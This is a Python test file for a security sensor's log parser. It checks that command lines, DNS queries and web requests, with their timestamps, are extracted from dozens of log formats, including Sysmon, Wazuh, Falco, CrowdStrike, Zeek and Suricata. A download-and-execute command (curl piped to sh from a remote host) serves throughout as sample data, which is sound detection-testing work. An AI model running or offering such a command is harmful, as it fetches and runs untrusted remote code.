"""Formats as they are in the wild: each line gives its string, its specialist and its time; what cannot be used is named."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from edge_demist.sensor.detect.mapping import FieldMapping, load_rules
from edge_demist.sensor.sources.envelopes import RECORD_KEYS
from edge_demist.sensor.sources.event_times import means_a_time
from edge_demist.sensor.sources.parser import LineParser
from edge_demist.sensor.sources.timestamps import format_time, parse_time, syslog_time
from tests.support.sensor_fakes import balanced, watch_once
from tools.sensor.fake_model import ALARM_TASKS, CATEGORY_TASKS

MAPPING = FieldMapping(load_rules(), ALARM_TASKS + CATEGORY_TASKS)
SHELL = "curl http://198.51.100.7/x.sh|sh"
NAME = "xjw8k2qpz7v1.info"
NAMES = {"dga", "dns-tunnel", "hostname-category", "hostname-threat"}
SYSMON = {"EventID": 1, "UtcTime": "2024-05-01 08:00:00.123", "CommandLine": SHELL}
EVE_DNS = {"timestamp": "2024-05-01T08:00:00.123000+0000", "event_type": "dns", "dns": {"type": "query", "rrname": NAME}}
ZEEK_DNS = {"ts": 1714550400.123, "uid": "C1", "query": NAME, "qtype_name": "A"}
MOMENT = "2024-05-01T08:00:00.123000Z"


def found(line: bytes, name: str = "x.json") -> tuple[dict[str, set[str]], str | None]:
    """Strings with their specialists, and the time of the first record."""
    record = LineParser(name).parse(line)
    assert record is not None and not isinstance(record, str), record
    strings: dict[str, set[str]] = {}
    time = None
    for part in getattr(record, "parts", ()) or (record,):
        mapped = MAPPING.apply(part)
        assert not isinstance(mapped, str), mapped
        for item in mapped:
            strings.setdefault(item.text, set()).update(item.tasks)
        us = MAPPING.time_us(part)
        time = time or (None if us is None else format_time(us))
    return strings, time


def line(value: object) -> bytes:
    return json.dumps(value).encode()


XML_EVENT = (
    "<Event><System><TimeCreated SystemTime='2024-05-01T08:00:00.123Z'/></System>"
    f"<EventData><Data Name='CommandLine'>{SHELL}</Data></EventData></Event>"
)
COMMANDS: dict[str, object] = {
    "sysmon": SYSMON,
    "sysmon, nested": {"Event": {"System": {"EventID": 1}, "EventData": {"UtcTime": "2024-05-01 08:00:00.123", "CommandLine": SHELL}}},
    "evtx_dump": {
        "Event": {
            "System": {"EventID": 4688, "TimeCreated": {"#attributes": {"SystemTime": "2024-05-01T08:00:00.123Z"}}},
            "EventData": {"CommandLine": SHELL},
        }
    },
    "event data as a list": {
        "Event": {
            "System": {"TimeCreated": {"@SystemTime": "2024-05-01T08:00:00.1230000Z"}},
            "EventData": {"Data": [{"@Name": "User", "#text": "x"}, {"@Name": "CommandLine", "#text": SHELL}]},
        }
    },
    **{
        f"event data, {name}": {
            "Event": {
                "System": {"TimeCreated": moment},
                "EventData": {"Data": [{**attribute("User"), text: "x"}, {**attribute("CommandLine"), text: SHELL}]},
            }
        }
        for name, moment, attribute, text in (
            ("xmltodict", {"@SystemTime": "2024-05-01T08:00:00.123Z"}, lambda value: {"@Name": value}, "#text"),
            ("xml2js", {"$": {"SystemTime": "2024-05-01T08:00:00.123Z"}}, lambda value: {"$": {"Name": value}}, "_"),
            ("go", {"-SystemTime": "2024-05-01T08:00:00.123Z"}, lambda value: {"-Name": value}, "#content"),
            ("x2js", {"_SystemTime": "2024-05-01T08:00:00.123Z"}, lambda value: {"_Name": value}, "__text"),
            ("fast", {"@_SystemTime": "2024-05-01T08:00:00.123Z"}, lambda value: {"@_Name": value}, "#text"),
            ("plain", {"SystemTime": "2024-05-01T08:00:00.123Z"}, lambda value: {"Name": value}, "Value"),
        )
    },
    "EvtxECmd": {
        "TimeCreated": "2024-05-01T08:00:00.1230000+00:00",
        "Payload": json.dumps({"EventData": {"Data": [{"@Name": "CommandLine", "#text": SHELL}]}}),
    },
    "Get-WinEvent": {
        "TimeCreated": "/Date(1714550400123)/",
        "Id": 1,
        "Message": f"Process Create:\r\nRuleName: -\r\nUtcTime: 2024-05-01 08:00:00.123\r\nCommandLine: {SHELL}\r\nUser: x",
    },
    "security event as text": {
        "EventTime": "2024-05-01 08:00:00.123",
        "Message": f"A new process has been created.\r\n\tProcess Command Line:\t{SHELL}\r\n",
    },
    "winlogbeat": {
        "@timestamp": "2024-05-01T08:00:00.123Z",
        "winlog": {"event_data": {"CommandLine": SHELL}},
        "process": {"command_line": SHELL},
    },
    "elastic, dotted keys": {"@timestamp": "2024-05-01T08:00:00.123Z", "process.command_line": SHELL},
    "auditbeat": {"@timestamp": "2024-05-01T08:00:00.123Z", "process": {"args": SHELL.split(" "), "title": SHELL[:10]}},
    "wazuh, windows": {
        "timestamp": "2024-05-01T08:00:00.123+0000",
        "data": {"win": {"eventdata": {"commandLine": SHELL}}},
        "full_log": "{}",
    },
    "wazuh, audit": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"audit": {"execve": {"a1": SHELL.split(" ")[1], "a0": "curl"}}}},
    "wazuh, osquery": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"osquery": {"columns": {"cmdline": SHELL}}}},
    "wazuh in an index": {
        "_index": "wazuh-alerts",
        "_source": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"win": {"eventdata": {"commandLine": SHELL}}}},
    },
    "kunai in HEC": {
        "time": 1,
        "event": {"data": {"command_line": SHELL}, "info": {"event": {"name": "execve"}, "utc_time": "2024-05-01T08:00:00.123Z"}},
    },
    "laurel": {"ID": "1714550400.123:79", "EXECVE": {"ARGV": SHELL.split(" ")}, "PROCTITLE": {"ARGV": [SHELL[:9]]}},
    "laurel, percent": {"ID": "1714550400.123:79", "PROCTITLE": {"ARGV": [SHELL.replace("|", "%7C")]}},
    "osquery": {"name": "p", "unixTime": "1714550400.123", "columns": {"cmdline": SHELL}, "action": "added"},
    "osquery, calendar": {"name": "p", "calendarTime": "Wed May  1 08:00:00 2024 UTC", "columns": {"cmdline": SHELL}},
    "osquery, snapshot": {"action": "snapshot", "unixTime": 1714550400.123, "snapshot": [{"cmdline": SHELL, "pid": "1"}]},
    "osquery, differences": {"unixTime": 1714550400.123, "diffResults": {"added": [{"cmdline": SHELL}], "removed": [{"cmdline": "old"}]}},
    "falco": {"time": "2024-05-01T08:00:00.123456789Z", "output_fields": {"proc.cmdline": SHELL, "evt.time": 1714550400123456789}},
    "falco, no time": {"output_fields": {"proc.cmdline": SHELL, "evt.time": 1714550400123000000}},
    "sysdig": {"evt.time": "x", "proc.cmdline": SHELL, "timestamp": "2024-05-01T08:00:00.123Z"},
    "a list of arguments": {"cmdline": SHELL.split(" "), "timestamp": "2024-05-01T08:00:00.123Z"},
    "go-audit": {
        "sequence": 7,
        "timestamp": "1714550400.123",
        "messages": [{"type": 1300, "data": "x"}, {"type": 1309, "data": 'argc=2 a0="curl" a1="http://198.51.100.7/x.sh|sh"'}],
    },
    "kunai": {"data": {"command_line": SHELL}, "info": {"event": {"name": "execve"}, "utc_time": "2024-05-01T08:00:00.123456789Z"}},
    "tetragon": {
        "process_exec": {"process": {"binary": "curl", "arguments": SHELL.split(" ")[1]}},
        "time": "2024-05-01T08:00:00.123456789Z",
    },
    "tracee": {"timestamp": 1714550400123456789, "eventName": "sched_process_exec", "args": [{"name": "argv", "value": SHELL.split(" ")}]},
    "defender": {"Timestamp": "2024-05-01T08:00:00.123Z", "ProcessCommandLine": SHELL},
    "defender, stream": {
        "category": "AdvancedHunting-DeviceProcessEvents",
        "properties": {"Timestamp": "2024-05-01T08:00:00.123Z", "ProcessCommandLine": SHELL},
    },
    "defender, several": {"records": [{"time": "2024-05-01T08:00:00.123Z", "properties": {"ProcessCommandLine": SHELL}}]},
    "carbon black": {"type": "endpoint.event.procstart", "process_cmdline": SHELL, "device_timestamp": "2024-05-01 08:00:00.123 +0000 UTC"},
    "crowdstrike": {"event_simpleName": "ProcessRollup2", "CommandLine": SHELL, "timestamp": "1714550400123"},
    "crowdstrike, context": {"event_simpleName": "ProcessRollup2", "CommandLine": SHELL, "ContextTimeStamp": "1714550400.123"},
    "crowdstrike, stream": {"metadata": {"eventCreationTime": 1714550400123}, "event": {"CommandLine": SHELL, "FileName": "x"}},
    "splunk HEC": {"time": 1714550400.123, "sourcetype": "sysmon", "event": {"CommandLine": SHELL}},
    "splunk HEC, text": {"time": "1714550400.123", "event": json.dumps({"CommandLine": SHELL})},
    "splunk export": {"preview": False, "result": {"_time": "2024-05-01T08:00:00.123+00:00", "_raw": json.dumps({"CommandLine": SHELL})}},
    "splunk, XML": {"result": {"_raw": XML_EVENT}},
    "elasticsearch hit": {
        "_index": "i",
        "_id": "1",
        "_source": {"@timestamp": "2024-05-01T08:00:00.123Z", "process": {"command_line": SHELL}},
    },
    "elasticsearch answer": {
        "took": 1,
        "hits": {"total": 1, "hits": [{"_source": {"@timestamp": "2024-05-01T08:00:00.123Z", "process": {"command_line": SHELL}}}]},
    },
    "filebeat around a line": {
        "@timestamp": "2024-05-01T08:00:00.123Z",
        "message": json.dumps({"CommandLine": SHELL}),
        "log": {"file": {"path": "/x"}},
    },
    "container log": {"log": json.dumps(SYSMON) + "\n", "stream": "stdout", "time": "2024-05-01T09:00:00.5Z"},
    "cloudwatch": {"logEvents": [{"id": "1", "timestamp": 1714550400123, "message": json.dumps({"CommandLine": SHELL})}]},
    "kibana, fields of a hit": {
        "_index": "i",
        "fields": {"@timestamp": ["2024-05-01T08:00:00.123Z"], "process.command_line": [SHELL]},
    },
    "chainsaw": {
        "group": "Sigma",
        "document": {
            "kind": "evtx",
            "data": {
                "Event": {
                    "System": {"TimeCreated_attributes": {"SystemTime": "2024-05-01T08:00:00.123Z"}},
                    "EventData": {"CommandLine": SHELL},
                }
            },
        },
    },
    "hayabusa": {"Timestamp": "2024-05-01 10:00:00.123 +02:00", "RuleTitle": "x", "Details": {"Cmdline": SHELL, "PID": 5}},
    "hunting results": {"Schema": [{"Name": "x"}], "Results": [{"Timestamp": "2024-05-01T08:00:00.123Z", "ProcessCommandLine": SHELL}]},
    "sentinel, portal": {"TimeGenerated [UTC]": "5/1/2024, 8:00:00.123 AM", "EventID": 4688, "CommandLine": SHELL},
    "sentinelone": {"event.time": 1714550400123, "tgt.process.cmdline": SHELL},
    "limacharlie": {"event": {"COMMAND_LINE": SHELL}, "routing": {"event_time": 1714550400123, "event_type": "NEW_PROCESS"}},
    "velociraptor": {"Pid": 5, "CommandLine": SHELL, "CreateTime": "2024-05-01T08:00:00.123Z"},
    "sysdig, file": {"evt.outputtime": 1714550400123456789, "evt.type": "execve", "proc.cmdline": SHELL},
    "OCSF": {"class_uid": 1007, "time": 1714550400123, "process": {"cmd_line": SHELL}, "actor": {"process": {"cmd_line": "sshd"}}},
    "UDM": {
        "metadata": {"event_timestamp": "2024-05-01T08:00:00.123Z"},
        "principal": {"process": {"command_line": "sshd"}},
        "target": {"process": {"command_line": SHELL}},
    },
    "sudo": {"accept": {"server_time": {"seconds": 1714550400.123}, "runargv": SHELL.split(" ")}},
    "filebeat, osquery module": {"@timestamp": "2024-05-01T08:00:00.123Z", "osquery": {"result": {"columns": {"cmdline": SHELL}}}},
    "an envelope that nobody foresaw": {"when": "2024-05-01T08:00:00.123Z", "body": {"inner": {"CommandLine": SHELL}}},
    "the journal, as bytes": {"__REALTIME_TIMESTAMP": "1714550400123000", "MESSAGE": list(json.dumps({"CommandLine": SHELL}).encode())},
    "audit in the journal": {
        "__REALTIME_TIMESTAMP": "1714550400123456",
        "_AUDIT_TYPE_NAME": "EXECVE",
        "MESSAGE": 'EXECVE argc=2 a0="curl" a1="http://198.51.100.7/x.sh|sh"',
    },
    "audit in a message": {
        "@timestamp": "2024-05-01T09:00:00Z",
        "message": 'type=EXECVE msg=audit(1714550400.123:7): argc=2 a0="curl" a1="http://198.51.100.7/x.sh|sh"',
    },
}


@pytest.mark.parametrize("name", COMMANDS)
def test_command_lines_of_many_sources(name: str) -> None:
    strings, time = found(line(COMMANDS[name]))
    assert strings == {SHELL: {"cmdline"}}
    assert time is not None and time[:19] == MOMENT[:19] and (time[20:23] == "123" or "calendar" in name)


LOOKUPS: dict[str, object] = {
    "suricata": EVE_DNS,
    "suricata in wazuh": {
        "timestamp": "2024-05-01T09:00:00.000+0000",
        "rule": {"id": "1"},
        "data": EVE_DNS,
        "location": "/var/log/suricata/eve.json",
    },
    "suricata in filebeat": {"@timestamp": "2024-05-01T09:00:00.000Z", "message": json.dumps(EVE_DNS)},
    "suricata in HEC": {"time": 1, "event": EVE_DNS},
    "zeek": ZEEK_DNS,
    "zeek, tagged": {"dns": ZEEK_DNS},
    "zeek, tagged in capitals, with additions": {"DNS": ZEEK_DNS, "@timestamp": "2024-05-01T09:00:00.000Z", "@version": "1"},
    "zeek, tagged, a variant": {"dns_red": ZEEK_DNS},
    "zeek in an index": {"_source": {"_path": "dns", **ZEEK_DNS}},
    "packetbeat": {"@timestamp": "2024-05-01T08:00:00.123Z", "type": "dns", "dns": {"question": {"name": NAME}}},
    "filebeat, zeek module": {
        "@timestamp": "2024-05-01T08:00:00.123Z",
        "dns": {"question": {"name": NAME}},
        "zeek": {"dns": {"query": NAME}},
    },
    "elastic, dotted": {"@timestamp": "2024-05-01T08:00:00.123Z", "dns.question.name": NAME},
    "elastic, half dotted": {"@timestamp": "2024-05-01T08:00:00.123Z", "dns": {"question.name": NAME}},
    "security onion": {"@timestamp": "2024-05-01T08:00:00.123Z", "dns": {"query": {"name": NAME}}, "message": json.dumps(ZEEK_DNS)},
    "sysmon": {"EventID": 22, "UtcTime": "2024-05-01 08:00:00.123", "QueryName": NAME},
    "wazuh, sysmon": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"win": {"eventdata": {"queryName": NAME}}}},
    "kunai": {
        "data": {"query": NAME, "command_line": "x"},
        "info": {"event": {"name": "dns_query"}, "utc_time": "2024-05-01T08:00:00.123Z"},
    },
    "crowdstrike": {"event_simpleName": "DnsRequest", "DomainName": NAME, "timestamp": "1714550400123"},
    "logstash around zeek": {"@timestamp": "2024-05-01T09:00:00Z", "@version": "1", "zeek": {"dns": ZEEK_DNS}},
    "logstash around suricata": {"@timestamp": "2024-05-01T09:00:00Z", "suricata": {"eve": EVE_DNS}},
    "dnstap": {"dns": {"qname": NAME, "qtype": "A"}, "dnstap": {"timestamp-rfc3339ns": "2024-05-01T08:00:00.123Z"}},
    "google": {"jsonPayload": {"queryName": NAME}, "timestamp": "2024-05-01T08:00:00.123Z"},
    "adguard": {"T": "2024-05-01T08:00:00.123Z", "QH": NAME, "QT": "A", "IP": "192.0.2.1"},
    "adguard, answer": {"data": [{"time": "2024-05-01T08:00:00.123Z", "question": {"name": NAME}}], "oldest": ""},
    "tracee": {"timestamp": 1714550400123000000, "args": [{"name": "proto_dns", "value": {"questions": [{"name": NAME}]}}]},
    "sentinel, DnsEvents": {"TimeGenerated": "2024-05-01T08:00:00.123Z", "SubType": "LookupQuery", "Name": NAME},
    "OCSF": {"class_uid": 4003, "time": 1714550400123, "query": {"hostname": NAME}},
    "UDM": {"metadata": {"event_timestamp": "2024-05-01T08:00:00.123Z"}, "network": {"dns": {"questions": [{"name": NAME, "type": 1}]}}},
    "route 53, firehose": {"query_timestamp": "2024-05-01T08:00:00.123Z", "query_name": NAME, "srcaddr": "192.0.2.1"},
    "route 53": {"query_timestamp": "x", "query_name": NAME, "timestamp": "2024-05-01T08:00:00.123Z"},
}


@pytest.mark.parametrize("name", LOOKUPS)
def test_names_of_many_sources(name: str) -> None:
    strings, time = found(line(LOOKUPS[name]))
    assert strings == {NAME: NAMES} and time == MOMENT


QUERY_LINES = {
    "bind": "01-May-2024 08:00:00.123 queries: info: client @0x7f1 192.0.2.1#5312 (NAME): query: NAME IN A +E(0)K (192.0.2.53)",
    "bind, with a view": "01-May-2024 08:00:00.123 client 192.0.2.1#5312 (NAME): view inside: query: NAME IN AAAA + (192.0.2.53)",
    "unbound": "[1714550400] unbound[99:0] info: 192.0.2.1 NAME A IN",
    "unbound, replies": "[1714550400] unbound[99:0] info: 192.0.2.1 NAME A IN NOERROR 0.000000 0 45",
    "dnsmasq": "May  1 08:00:00 dnsmasq[99]: query[A] NAME from 192.0.2.1",
    "pi-hole": "May  1 08:00:00 dnsmasq[99]: query[type=65] NAME from 2001:db8::1",
    "powerdns recursor": "May  1 08:00:00 ns pdns_recursor[9]: 3 [1/1] question for 'NAME|A' from 192.0.2.1",
    "powerdns": "May  1 08:00:00 Remote 192.0.2.1 wants 'NAME|A', do = 0, bufsize = 512: packetcache MISS",
    "coredns": '[INFO] 192.0.2.1:5000 - 1 "A IN NAME udp 41 false 512" NOERROR qr,rd 60 0.001s',
    "windows": "5/1/2024 8:00:00 AM 0E78 PACKET  000002 UDP Rcv 192.0.2.1 0002   Q [0001   D   NOERROR] A      (13)xjw8k2qpz7v1(4)info(0)",
}


def test_escapes_of_text_logs_are_undone() -> None:
    asked = rb"01-May-2024 08:00:00.123 client 192.0.2.1#5312 (x): query: my\032host\046.example IN A + (192.0.2.53)"
    assert list(found(asked)[0]) == ["my host..example"]
    request = rb'192.0.2.9 - - [01/May/2024:08:00:00 +0000] "GET /?q=\x22\x3cb\x3e\ta\\b\" HTTP/1.1" 200 5 "-" "-"'
    assert next(iter(found(request)[0])) == '/?q="<b>\ta\\b"'


@pytest.mark.parametrize("name", QUERY_LINES)
def test_query_logs_of_resolvers(name: str) -> None:
    strings, time = found(QUERY_LINES[name].replace("NAME", NAME).encode())
    assert strings == {NAME: NAMES} and (time is None if name == "coredns" else time is not None and time[5:13] == "05-01T08")


@pytest.mark.parametrize(
    "value",
    [
        *(
            "May 1, 2024 @ 08:00:00.123",
            "2024-05-01T08:00:00.123Z[UTC]",
            "2024-05-01 08:00:00.123 +0000 UTC m=+0.1",
            "20240501080000.123456-000",
            [2024, 5, 1, 8, 0, 0, 123000000],
            "[01/May/2024:08:00:00 +0000]",
        ),
        *("20240501080000Z", "\\/Date(1714550400123)\\/", "01.05.2024 08:00:00", "2024-05-01T08:00:00.123 Z", "1.714550400123E12"),
        *(["2024-05-01T08:00:00Z"], {"$date": "2024-05-01T08:00:00Z"}, {"$date": {"$numberLong": "1714550400123"}}),
        *({"seconds": 1714550400, "nanos": 5}, {"seconds": "1714550400"}),
    ],
    ids=str,
)
def test_times_as_languages_and_stores_write_them(value: object) -> None:
    us = parse_time(value)
    assert us is not None and format_time(us)[:19] == MOMENT[:19]


@pytest.mark.parametrize(
    "times",
    [
        {"date": "2024-05-01", "time": "08:00:00"},
        {"timestamp": 0, "@timestamp": "2024-05-01T08:00:00Z"},
        {"UtcTime": "-", "ts": None, "event": {"start": "2024-05-01T08:00:00Z"}},
        {"meta": {"log": {"event_time": 1714550400}}},
        {"certificate": {"not_after": "2034-05-01T08:00:00Z"}, "query_time": "2024-05-01T08:00:00Z"},
        {"fields": {"ts": "2024-05-01T08:00:00Z"}},
    ],
    ids=str,
)
def test_where_the_time_stands(times: dict) -> None:
    _, time = found(line({"CommandLine": SHELL, **times}))
    assert time is not None and time[:19] == MOMENT[:19]


def test_a_time_without_a_year_is_the_last_one_of_that_day() -> None:
    now = datetime(2025, 1, 2, tzinfo=UTC)
    years = [
        format_time(syslog_time(text, now) or 0)[:10]
        for text in ("Dec 31 23:00:00", "Jan  2 12:00:00", "Jan  4 12:00:00", "Feb 29 00:00:00")
    ]
    assert years == ["2024-12-31", "2025-01-02", "2024-01-04", "2024-02-29"] and syslog_time("Foo 31 23:00:00") is None


def test_envelopes_know_the_records_of_the_mapping() -> None:
    wrappers = {"data", "event", "properties", "win", "process", "message", "AdditionalFields"}  # read at the top, or opened
    common = {
        "**",
        "input",
        "name",
        "url",
        "useragent",
        "agent",
        "domain",
        "uri",
        "path",
        "arg",
        "ua",
        "process command line",
        *("action", "message", "status", "argv", "client", "headers", "obj", "flow", "flows", "l7", "http_agent"),
    }  # envelopes have them too
    roots = {rule.root for rule in load_rules() if "host" in rule.logs}
    known = {key.partition(".")[0] for key in RECORD_KEYS}
    assert {root.lower() for root in roots - known - wrappers} <= common


@pytest.mark.parametrize("name", ["kunai", "falco", "osquery", "carbon black", "sysmon", "wazuh, windows", "tetragon", "defender"])
def test_records_in_envelopes_of_several_layers(name: str) -> None:
    inner = COMMANDS[name]
    hec = {"time": 1714550400.123, "event": inner}
    beat = {"@timestamp": "2024-05-01T08:00:00.123Z", "process": {"pid": 7}, "message": json.dumps(inner)}
    for outer in (hec, beat, {"_source": hec}, {"log": json.dumps(beat), "stream": "stdout"}):
        strings, time = found(line(outer))
        assert strings == {SHELL: {"cmdline"}} and time is not None


REQUESTS: dict[str, object] = {
    "combined, behind syslog": 'May  1 08:00:00 w nginx: a - - [01/May/2024:08:00:00 +0000] "GET /x?y=1 HTTP/1.1" 200 5 "-" "curl/8"',
    "haproxy": (
        "May  1 08:00:00 lb haproxy[143]: 192.0.2.9:3331 [01/May/2024:08:00:00.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- "
        '1/1/1/1/0 0/0 {x} {} "GET /x?y=1 HTTP/1.1"'
    ),
    "squid": "1714550400.123    110 192.0.2.9 TCP_MISS/200 4512 GET http://a.example/x?y=1 - HIER_DIRECT/198.51.100.2 text/html",
    "alb": (
        "https 2024-05-01T08:00:00.123456Z app/lb/50dc 192.0.2.9:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "
        '"GET https://a.example:443/x?y=1 HTTP/1.1" "curl/8" ECDHE TLSv1.2 arn "Root=1" "a.example" "-" 0'
    ),
    "envoy": (
        '[2024-05-01T08:00:00.123Z] "GET /x?y=1 HTTP/1.1" 200 - via_upstream - "-" 0 5 1 1 "-" "curl/8" "id" "a.example" "10.0.0.1:80"'
    ),
    "iis": "2024-05-01 08:00:00 GET /x y=1 192.0.2.9 curl/8 a.example 200",
    "cloudfront": "2024-05-01\t08:00:00\tGET\t/x\ty=1\t192.0.2.9\tcurl/8\ta.example\t200",
    "ecs, path and query": {"@timestamp": "2024-05-01T08:00:00Z", "url": {"domain": "a.example", "path": "/x", "query": "y=1"}},
    "aws waf": {
        "timestamp": 1714550400123,
        "httpRequest": {"headers": [{"name": "Host", "value": "a.example"}], "uri": "/x", "args": "y=1"},
    },
    "cloudflare": {"ClientRequestHost": "a.example", "ClientRequestURI": "/x?y=1", "EdgeStartTimestamp": 1714550400123456789},
    "google": {"httpRequest": {"requestUrl": "https://a.example/x?y=1", "userAgent": "curl/8"}, "timestamp": "2024-05-01T08:00:00.1Z"},
    "nginx, own JSON": {"time_iso8601": "2024-05-01T08:00:00+00:00", "request": "GET /x?y=1 HTTP/1.1", "host": "a.example"},
    "nginx, parts": {"time": "2024-05-01T08:00:00Z", "uri": "/x", "args": "y=1", "server_name": "a.example", "agent": "curl/8"},
    "envoy, JSON": {
        "start_time": "2024-05-01T08:00:00Z",
        "method": "GET",
        "path": "/x?y=1",
        "authority": "a.example",
        "protocol": "HTTP/2",
    },
    "modsecurity": {
        "transaction": {"time_stamp": "Wed May  1 08:00:00 2024", "request": {"uri": "/x?y=1", "headers": {"Host": "a.example"}}}
    },
    "azure": {
        "records": [{"time": "2024-05-01T08:00:00Z", "properties": {"requestUri": "/x", "requestQuery": "y=1", "host": "a.example"}}]
    },
    "wazuh, web rule": {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"protocol": "GET", "srcip": "192.0.2.9", "url": "/x?y=1"}},
}
W3C_NAMES = b"#Version: 1.0\n#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) cs-host sc-status"


@pytest.mark.parametrize("name", REQUESTS)
def test_requests_of_many_sources(name: str) -> None:
    value = REQUESTS[name]
    parser = LineParser("u_ex.log")
    for head in W3C_NAMES.split(b"\n") if name in ("iis", "cloudfront") else ():
        assert parser.parse(head) is None
    record = parser.parse(value.encode() if isinstance(value, str) else line(value))
    assert record is not None and not isinstance(record, str), record
    part = (getattr(record, "parts", ()) or (record,))[0]
    mapped = MAPPING.apply(part)
    assert not isinstance(mapped, str), mapped
    strings = {item.text: set(item.tasks) for item in mapped}
    assert "uri-attack" in strings["/x?y=1"] and len([text for text in strings if "uri-attack" in strings[text]]) == 1
    addresses = {text.partition("://")[2] or text for text in strings if "url-phishing" in strings[text]}
    assert {text.replace(":443", "") for text in addresses} <= {"a.example/x?y=1"} and strings.get("curl/8", {"user-agent"}) == {
        "user-agent"
    }
    us = MAPPING.time_us(part)
    assert us is not None and format_time(us)[:19] == MOMENT[:19]


def test_agents_as_w3c_logs_write_them() -> None:
    parser = LineParser("u_ex.log")
    assert [parser.parse(head) for head in W3C_NAMES.split(b"\n")] == [None, None]
    for agent in ("Mozilla/5.0+(X11;+Linux)", "Mozilla/5.0%20(X11;%20Linux)"):
        mapped = MAPPING.apply(parser.parse(f"2024-05-01 08:00:00 GET / - 192.0.2.9 {agent} - 200".encode()))  # type: ignore[arg-type]
        assert [item.text for item in mapped if item.tasks == ("user-agent",)] == ["Mozilla/5.0 (X11; Linux)"]  # type: ignore[union-attr]


@pytest.mark.parametrize("between", ["", " ", ",", "\n"])
def test_several_objects_on_one_line(tmp_path: Path, between: str) -> None:
    (tmp_path / "x.json").write_text(between.join(json.dumps({**SYSMON, "CommandLine": f"{SHELL} {i}"}) for i in range(3)) + "\n")
    events, summary = watch_once(tmp_path, tmp_path / "x.json", explain=False)
    assert [event["text"] for event in events] == [f"{SHELL} {i}" for i in range(3)] and balanced(summary)


def test_several_events_of_windows_on_one_line() -> None:
    text = "<?xml version='1.0'?><Events>" + XML_EVENT + XML_EVENT.replace(SHELL, "whoami") + "</Events>"
    assert list(found(text.encode())[0]) == [SHELL, "whoami"]


def test_wazuh_s_escapes_are_undone_and_shares_left() -> None:
    for written, plain in ((r"\"C:\\x.exe\" /a", r"C:\x.exe".join('""') + " /a"), (r"dir \\host\share", r"dir \\host\share")):
        record = {"timestamp": "2024-05-01T08:00:00.123+0000", "data": {"win": {"eventdata": {"commandLine": written}}}}
        assert list(found(line(record))[0]) == [plain]


@pytest.mark.parametrize(
    ("name", "is_time"),
    [
        *(
            (name, True)
            for name in ("Datetime", "EdgeStartTimestamp", "evt.outputtime", "event.time", "query_timestamp", "TimeGenerated [UTC]")
        ),
        *((name, True) for name in ("msec", "time_iso8601", "log_date", "timestamp-rfc3339ns")),
        *(
            (name, False)
            for name in ("expiration_time", "bootTime", "valid_date", "elapsed_ms", "uptime", "lastLogonTime", "runtime", "name", "")
        ),
    ],
)
def test_fields_that_can_only_mean_a_time(name: str, is_time: bool) -> None:
    assert means_a_time(name) is is_time


AUDIT = 'type=EXECVE msg=audit(1714550400.123:7973): argc=2 a0="curl" a1=687474703A2F2F3139382E35312E3130302E372F782E73687C7368'
PREFIXES = [
    "",
    "  ",
    "<134>1 2024-05-01T08:00:01Z host suricata 123 - - ",
    "<13>May  1 08:00:01 host app[12]: ",
    "May  1 08:00:01 host app: @cee: ",
    "May  1 08:00:01 host app: @cee:",
    "2024-05-01T08:00:01.000000000Z stdout F ",
    "[2024-05-01 08:00:01] INFO ",
    "prefix {not json} ",
]


@pytest.mark.parametrize("prefix", PREFIXES[:-1])
@pytest.mark.parametrize("value", [SYSMON, EVE_DNS])
def test_an_object_behind_a_prefix(prefix: str, value: dict) -> None:
    strings, time = found(prefix.encode() + line(value))
    assert list(strings) in ([SHELL], [NAME]) and time == MOMENT


@pytest.mark.parametrize("end", ["#015", "#012", "#015#012", " ", "\r"])
def test_what_rsyslog_makes_of_line_ends_is_no_part_of_the_object(end: str) -> None:
    assert list(found(b"May  1 08:00:01 host app: " + line(SYSMON) + end.encode())[0]) == [SHELL]


def test_sysmon_for_linux_in_syslog() -> None:
    event = XML_EVENT.replace("<System>", "<System><Correlation Guid='{0000}'/>")
    assert found(f"May  1 08:00:01 host sysmon: {event}".encode()) == ({SHELL: {"cmdline"}}, MOMENT)


def test_the_prefix_lends_its_time() -> None:
    record = {"CommandLine": SHELL}
    assert found(b"<134>1 2024-05-01T08:00:00.123Z host app - - - " + line(record))[1] == MOMENT
    assert found(b"2024-05-01T08:00:00.123000000Z stdout F " + line(record))[1] == MOMENT


@pytest.mark.parametrize("prefix", ["", "node=web1 ", "May  1 08:00:01 host audispd: ", "<13>May  1 08:00:01 host audit: "])
def test_raw_audit_lines(prefix: str) -> None:
    assert found(f"{prefix}{AUDIT}".encode(), "audit.log") == ({SHELL: {"cmdline"}}, MOMENT)


def test_lines_that_ausearch_interpreted() -> None:
    title = b"type=PROCTITLE msg=audit(05/01/2024 08:00:00.123:9) : proctitle=" + SHELL.encode() + b" "
    command = b"type=EXECVE msg=audit(05/01/2024 08:00:00.123:9) : argc=2 a0=curl a1=http://198.51.100.7/x.sh|sh "
    assert found(title) == found(command) == ({SHELL: {"cmdline"}}, MOMENT)


def test_arguments_in_pieces_and_titles_in_hexadecimal() -> None:
    pieces = b'type=EXECVE msg=audit(1714550400.123:7): argc=2 a0="sh" a1_len=12 a1[0]="abc " a1[1]=646566'
    assert list(found(pieces)[0]) == ["sh abc def"]
    title = b"type=PROCTITLE msg=audit(1714550400.123:8): proctitle=" + b"bash\0-c\0id".hex().upper().encode()
    assert list(found(title)[0]) == ["bash -c id"]
    plain = b'type=PROCTITLE msg=audit(1714550400.123:8): proctitle="/usr/sbin/sshd"'
    assert list(found(plain)[0]) == ["/usr/sbin/sshd"]
    assert list(found(line({"type": "PROCTITLE", "proctitle": b"bash\0-c\0id".hex()}))[0]) == ["bash -c id"]
    assert list(found(line({"proctitle": "deadbeef"}))[0]) == ["deadbeef"]


def test_a_command_in_two_records_or_fields_is_one() -> None:
    parser = LineParser("audit.log")
    assert MAPPING.apply(parser.parse(AUDIT.encode())) != "no-string"  # type: ignore[arg-type]
    assert parser.parse(b"type=PROCTITLE msg=audit(1714550400.123:7973): proctitle=6375726C") == "same-command"
    assert parser.parse(b"type=SYSCALL msg=audit(1714550400.123:7974): arch=c000003e") == "no-command"
    for number in (7975, 7976):
